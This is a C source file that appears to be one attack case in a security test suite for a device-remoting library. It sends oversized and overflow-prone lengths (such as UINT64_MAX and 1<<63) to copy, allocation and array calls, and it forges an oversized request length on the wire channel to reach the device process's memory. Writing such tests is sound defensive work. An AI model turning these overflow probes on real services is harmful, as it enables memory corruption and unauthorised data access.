/* Tries to make the device process copy more than a message holds: the length of the message, of a text in it, of a
 * copy, and of an array. Gains the memory of the device process behind the message. */
#include "parts/wire.h"

static lab_status attack(attack_honest *honest, void *arguments, size_t bytes, float *out, const float *in, int count)
{
    const uint64_t huge[] = {UINT64_MAX, UINT64_MAX - 15, (uint64_t)1 << 63, ((uint64_t)1 << 32) + 8};
    lab_deviceptr memory;
    lab_array *array;
    for (int i = 0; i < 4; i++) {
        lab_memcpy_htod(0x1000, in, huge[i]);
        lab_memcpy_dtoh(out, 0x1000, huge[i]);
        lab_mem_alloc(&memory, huge[i]);
        lab_memset_async(0x1000, 1, huge[i], NULL);
        lab_host_register((void *)in, huge[i]);
        lab_array_empty(&array, LAB_FLOAT64, LAB_SHAPE(huge[i], huge[i]));
        lab_array_empty(&array, LAB_FLOAT64, LAB_SHAPE(huge[i] / 8 + 1));
    }
    w_channel *channel = w_open();
    if (!channel) return LAB_SUCCESS;
    unsigned char text[32] = {[1] = 1, [2] = 0xff, [3] = 0xff, [9] = 0xff}; /* no place for the result; a text */
    w_call(channel, CALL_NUMBER(lab_module_load_source), text, sizeof text);
    channel->request.kind = W_CALL;
    channel->request.length = UINT64_MAX - 7;
    w_pass(channel);
    usleep(10000);
    return LAB_SUCCESS;
}
